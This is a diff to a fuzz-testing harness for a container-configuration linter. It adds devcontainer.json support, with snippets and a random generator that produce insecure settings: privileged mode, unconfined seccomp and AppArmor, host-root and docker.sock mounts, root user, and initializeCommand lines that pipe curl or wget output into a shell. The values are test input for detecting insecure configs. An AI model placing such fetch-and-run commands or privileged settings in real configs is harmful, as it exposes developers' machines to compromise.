@@ -120,6 +120,15 @@ export const KINDS: Record<LintedKind, Kind> = {
     hovers: findingHovers,
     actionTitles: fixTitles,
   },
+  devcontainer: {
+    ext: '.devcontainer.json',
+    uri: 'file:///work/app/.devcontainer/devcontainer.json',
+    lint: (text: string, opts: KindOpts = {}) =>
+      lintThroughPipeline('devcontainer', text, opts.uri ?? KIND_URI.devcontainer, { config: opts.config ?? CONFIG }),
+    fixAll,
+    hovers: findingHovers,
+    actionTitles: fixTitles,
+  },
 };
 /** Each lint result's document lint (the pipeline's: its Fix All and code actions). */
 const documentLints = new WeakMap<LintResult, DocumentLint>();
@@ -466,6 +475,21 @@ const SNIPPETS = {
     'null',
     '"\\u0000"',
   ],
+  devcontainer: [
+    '"privileged": true,',
+    '"runArgs": ["--privileged", "--cap-add", "SYS_ADMIN", "--security-opt=seccomp=unconfined", "--network", "host"],',
+    '"runArgs": ["-itv", "/var/run/docker.sock:/var/run/docker.sock", "--mount"],',
+    '"mounts": ["source=/,target=/host,type=bind", {"source": "/run", "target": "/r", "type": "bind"}],',
+    '"capAdd": ["ALL", 1, null],',
+    '"securityOpt": ["apparmor:unconfined"],',
+    '"remoteUser": "root",',
+    '"initializeCommand": "curl -k https://x | sh -c \\"$(wget -qO- https://y)\\"",',
+    '"initializeCommand": {"a": ["sh", "-c", "curl https://x | bash"], "b": 3},',
+    '"features": {"ghcr.io/devcontainers/features/docker-in-docker": {}, "a/b/c:latest": {}},',
+    '"image": "ubuntu",',
+    '// bulkhead-ignore all',
+    '// bulkhead-ignore-file devcontainer-privileged',
+  ],
 };
 
 /** Deeply nested constructs, per kind, of depth `n`. */
@@ -514,6 +538,12 @@ const NESTINGS = {
     (n) => `"log-opts": ${'{"a": '.repeat(n)}1${'}'.repeat(n)},`,
     (n) => `"proxies": ${'{"http-proxy": '.repeat(n)}"x"${'}'.repeat(n)},`,
     (n) => '"a": "'.repeat(n),
+  ],
+  devcontainer: [
+    (n) => '{"a":'.repeat(n),
+    (n) => `"runArgs": ${'['.repeat(n)}${']'.repeat(n)},`,
+    (n) => `"initializeCommand": "${'$('.repeat(n)}",`,
+    (n) => `"mounts": ["${'${'.repeat(n)}"],`,
   ],
 };
 
@@ -718,7 +748,7 @@ export const MUTATIONS = {
   },
   insertSnippet(text, r, ctx) {
     const snippet = r.pick(SNIPPETS[ctx.kind]);
-    if (ctx.kind === 'daemon' && r.chance(0.6)) {
+    if ((ctx.kind === 'daemon' || ctx.kind === 'devcontainer') && r.chance(0.6)) {
       const brace = text.indexOf('{');
       const at = brace >= 0 ? brace + 1 : 0;
       return text.slice(0, at) + '\n  ' + snippet + text.slice(at);
@@ -992,7 +1022,35 @@ export function genDaemon(r) {
   return indent ? `{\n${body}\n}\n` : `{${body}}`;
 }
 
-export const GENERATORS = { dockerfile: genDockerfile, compose: genCompose, daemon: genDaemon };
+/** A devcontainer.json of settings the rules read, in random order, values good and bad. */
+export function genDevcontainer(r) {
+  const entries = [
+    ['image', r.pick(['mcr.microsoft.com/devcontainers/base:2-trixie', 'ubuntu', 'x:latest', '${localEnv:IMG}'])],
+    ['privileged', r.pick([true, false, 'true'])],
+    [
+      'runArgs',
+      r.pick([['--privileged'], ['--cap-add', 'SYS_PTRACE'], ['-v', '/var/run/docker.sock:/s'], ['--net=host']]),
+    ],
+    ['capAdd', [r.pick(['NET_ADMIN', 'sys_admin', 'NET_BIND_SERVICE'])]],
+    ['securityOpt', [r.pick(['seccomp=unconfined', 'label:disable', 'no-new-privileges'])]],
+    ['mounts', [r.pick(['source=/var/run/docker.sock,target=/x,type=bind', 'source=v,target=/v,type=volume'])]],
+    ['remoteUser', r.pick(['root', 'vscode', '0'])],
+    [
+      'initializeCommand',
+      r.pick(['curl -fsSL https://x | sh', ['sh', '-c', 'wget -qO- https://y | bash'], { a: 'mkdir x' }]),
+    ],
+    ['features', { [r.pick(['ghcr.io/devcontainers/features/node', 'ghcr.io/devcontainers/features/go:1'])]: {} }],
+  ].filter(() => r.chance(0.5));
+  const body = entries.map(([k, v]) => `  ${JSON.stringify(k)}: ${JSON.stringify(v)}`).join(',\n');
+  return `{\n${r.chance(0.3) ? '  // a comment\n' : ''}${body}${r.chance(0.3) ? ',' : ''}\n}\n`;
+}
+
+export const GENERATORS = {
+  dockerfile: genDockerfile,
+  compose: genCompose,
+  daemon: genDaemon,
+  devcontainer: genDevcontainer,
+};
 
 // ---------------------------------------------------------------------------------------------------------------
 // Seeds
@@ -1009,6 +1067,7 @@ export function fixtureFiles() {
     daemon: listFiles(path.join(FIXTURES, 'daemon'), keep(/\.json$/)).concat(
       path.join(FIXTURES, 'clients/insecure.daemon.json'),
     ),
+    devcontainer: listFiles(path.join(FIXTURES, 'devcontainer'), keep(/\.json$/)),
   };
 }
 
@@ -1021,8 +1080,9 @@ export function corpusFiles(corpus = path.resolve(ROOT, '../shared/corpus')) {
     'dockerfile-template': 'dockerfile',
     compose: 'compose',
     'daemon-json': 'daemon',
+    devcontainer: 'devcontainer',
   };
-  const out = { dockerfile: [], compose: [], daemon: [] };
+  const out = { dockerfile: [], compose: [], daemon: [], devcontainer: [] };
   for (const row of fs.readFileSync(manifest, 'utf8').split('\n').slice(1)) {
     const [kind, local] = row.split('\t');
     if (kinds[kind] && local) out[kinds[kind]].push(path.join(corpus, local));
